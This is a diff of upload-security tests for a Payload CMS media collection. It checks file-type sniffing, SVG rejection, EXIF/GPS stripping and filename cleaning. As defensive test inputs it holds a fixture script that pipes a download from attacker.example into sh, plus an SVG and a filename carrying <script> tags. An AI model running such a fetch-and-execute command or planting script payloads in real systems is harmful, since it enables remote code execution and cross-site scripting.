@@ -63,4 +63,48 @@ describe('uploads', () => {
     const image = await payload.create({ collection: 'media', context, data: { alt: 'Sizes' }, file: await imageFile('sizes.jpg') })
     expect(Object.keys(image.sizes ?? {}).sort()).toEqual(['card', 'hero', 'social'])
   })
+
+  const staticDir = () => process.env.MEDIA_DIR!
+  const upload = (name: string, data: Buffer, mimetype: string) =>
+    payload.create({ collection: 'media', context, user: world.users.embassyA, overrideAccess: false, data: { alt: name }, file: { data, mimetype, name, size: data.length } })
+
+  it('refuses a script renamed .jpg, whatever type the browser claimed', async () => {
+    const error = await rejection(upload('holiday.jpg', Buffer.from('#!/bin/sh\ncurl https://attacker.example | sh\n'), 'image/jpeg'))
+    expect(error.status).toBe(400)
+    expect(error.paths).toEqual(['file'])
+    expect(error.messages[0]).toContain('not a JPEG, PNG, WebP or AVIF image')
+  })
+
+  it('refuses an SVG, which can carry script, even named .png', async () => {
+    const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script><rect width="10" height="10"/></svg>')
+    for (const [name, type] of [['drawing.svg', 'image/svg+xml'], ['drawing.png', 'image/png']]) {
+      const error = await rejection(upload(name, svg, type))
+      expect(error.paths, name).toEqual(['file'])
+    }
+  })
+
+  it('stores a photo without its GPS position or camera details, upright, under a clean name', async () => {
+    const { default: sharp } = await import('sharp')
+    const withExif = await sharp({ create: { width: 40, height: 20, channels: 3, background: '#336699' } })
+      .jpeg()
+      .withMetadata({ orientation: 6, exif: { IFD0: { Make: 'SpyCam', Artist: 'Someone' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '50/1 50/1 0/1' } } })
+      .toBuffer()
+    expect(await sharp(withExif).metadata()).toMatchObject({ orientation: 6, exif: expect.anything() })
+    const stored = await upload('Фото зала <script>.JPG', withExif, 'image/jpeg')
+    expect(stored.filename).toMatch(/^foto-zala-script(-\d+)?\.jpg$/)
+    const bytes = (await import('node:fs')).readFileSync(`${staticDir()}/${stored.filename}`)
+    const metadata = await sharp(bytes).metadata()
+    expect(metadata.exif).toBeUndefined()
+    expect(bytes.includes(Buffer.from('SpyCam'))).toBe(false)
+    // Orientation 6 means "turn right": stored already turned, 20 wide and 40 high.
+    expect([metadata.width, metadata.height]).toEqual([20, 40])
+  })
+
+  it('keeps the type it found, not the one claimed', async () => {
+    const { default: sharp } = await import('sharp')
+    const png = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#000' } }).png().toBuffer()
+    const stored = await upload('really-a-png.jpg', png, 'image/jpeg')
+    expect(stored.mimeType).toBe('image/png')
+    expect(stored.filename).toMatch(/^really-a-png(-\d+)?\.png$/)
+  })
 })
